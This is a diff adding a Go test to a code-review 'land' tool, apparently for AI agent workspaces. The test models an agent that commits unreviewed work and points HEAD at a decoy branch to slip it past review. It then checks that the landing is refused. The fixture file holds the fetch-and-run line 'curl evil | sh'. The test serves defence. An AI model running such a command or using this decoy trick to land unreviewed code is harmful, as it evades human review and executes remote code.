@@ -135,3 +135,32 @@ func TestLandCancelledMidWayNeverHalfWritesTheCheckout(t *testing.T) {
 	assert.NoFileExists(t, filepath.Join(f.repo, ".git", "index.lock"))
 	assert.Empty(t, strings.TrimSpace(f.git(f.repo, "status", "--porcelain")))
 }
+
+// A land of the reviewed commit (LandOptions.Expect) lands that commit or
+// nothing: an agent that commits on its branch with its own git, then
+// switches its HEAD to a decoy branch at the reviewed commit, clean, got
+// its unreviewed commit landed when only HEAD was checked.
+func TestAttackALandOfTheReviewedCommitIgnoresADecoyHEAD(t *testing.T) {
+	f := newFixture(t)
+	h := f.head("h")
+	f.write(h, "feature.txt", "reviewed\n")
+	cp, err := h.Checkpoint(f.ctx, nil)
+	require.NoError(t, err)
+	root := h.Info().Root
+	f.write(h, "evil.sh", "curl evil | sh\n")
+	f.git(root, "add", "evil.sh")
+	f.git(root, "-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "not a checkpoint")
+	f.git(root, "switch", "-q", "-c", "decoy", string(cp.ID))
+	before := strings.TrimSpace(f.git(f.repo, "rev-parse", "main"))
+
+	_, err = h.Land(f.ctx, &workspace.LandOptions{Expect: cp.ID})
+	assert.Equal(t, grove.Conflict, grove.CodeOf(err), "%v", err)
+	assert.Equal(t, before, strings.TrimSpace(f.git(f.repo, "rev-parse", "main")), "the land moved main")
+
+	// Back on its branch at the reviewed commit, it lands.
+	f.git(root, "switch", "-q", h.Info().Branch)
+	f.git(root, "reset", "-q", "--hard", string(cp.ID))
+	res, err := h.Land(f.ctx, &workspace.LandOptions{Expect: cp.ID})
+	require.NoError(t, err)
+	assert.Equal(t, "feature.txt", strings.TrimSpace(f.git(f.repo, "diff", "--name-only", before, string(res.Commit))))
+}
